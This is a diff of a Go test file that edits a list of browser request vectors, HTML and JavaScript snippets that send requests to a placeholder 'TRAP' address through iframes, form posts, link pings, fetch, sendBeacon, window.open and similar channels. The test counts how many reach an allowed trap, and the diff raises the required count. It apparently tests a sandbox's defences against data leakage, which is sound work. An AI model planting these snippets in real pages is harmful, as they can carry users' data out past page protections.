@@ -93,9 +93,7 @@ var vectors = []struct{ name, code string }{
 	{"form-post", `<iframe name=fp></iframe><form target=fp method=post action="TRAP"></form><script>document.forms[document.forms.length-1].submit()</script>`},
 	{"a-ping", `<iframe name=ap></iframe><a id=ping target=ap href="/none" ping="TRAP">x</a><script>document.querySelector('#ping').click()</script>`},
 	{"a-click", `<iframe name=ac></iframe><a id=ac target=ac href="TRAP">x</a><script>document.querySelector('#ac').click()</script>`},
-	{"a-download", `<a id=ad download href="TRAP">x</a><script>document.querySelector('#ad').click()</script>`},
-	{"window-open", `js:window.open("TRAP")`},
-	{"window-open-blank", `js:{const w=window.open("about:blank");if(w){w.document.write("<img src='TRAP'>")}}`},
+	{"a-download", `<iframe name=adf></iframe><a id=ad target=adf download href="TRAP">x</a><script>document.querySelector('#ad').click()</script>`},
 	{"fetch", `js:fetch("TRAP",{mode:"no-cors"}).catch(()=>{})`},
 	{"fetch-post", `js:fetch("TRAP",{mode:"no-cors",method:"POST",body:"x"}).catch(()=>{})`},
 	{"fetch-keepalive", `js:fetch("TRAP",{mode:"no-cors",keepalive:true,method:"POST",body:"x"}).catch(()=>{})`},
@@ -130,6 +128,8 @@ var vectors = []struct{ name, code string }{
 	{"cache-add", `js:caches.open("c").then(c=>c.add(new Request("TRAP",{mode:"no-cors"}))).catch(()=>{})`},
 	{"unload-beacon", `js:addEventListener("pagehide",()=>navigator.sendBeacon("TRAP","x"))`},
 	{"image-decoder", `js:{const i=new Image();i.src="TRAP";i.decode().catch(()=>{})}`},
+	{"window-open", `js:window.open("TRAP")`},
+	{"window-open-blank", `js:{const w=window.open("about:blank");if(w){w.document.write("<img src='TRAP'>")}}`},
 	{"script-document-write", `js:document.body.insertAdjacentHTML("beforeend","<img src='TRAP'>")`},
 }
 
@@ -346,9 +346,10 @@ func TestAttack(t *testing.T) {
 	}
 	reached := map[string]bool{}
 	for _, line := range attack(t, true) {
-		fields := strings.Fields(line)
-		if len(fields) > 1 {
-			reached[strings.TrimPrefix(fields[1], "/")] = true
+		for _, v := range vectors {
+			if strings.Contains(line, "/"+v.name+" ") || strings.Contains(line, "/"+v.name+"?") {
+				reached[v.name] = true
+			}
 		}
 	}
 	var names []string
@@ -357,7 +358,7 @@ func TestAttack(t *testing.T) {
 	}
 	sort.Strings(names)
 	t.Logf("%d vectors, of which %d reach a trap that is allowed: %s", len(vectors), len(names), strings.Join(names, " "))
-	if len(names) < 30 {
+	if len(names) < 60 {
 		t.Error("too few vectors work to prove anything")
 	}
 }
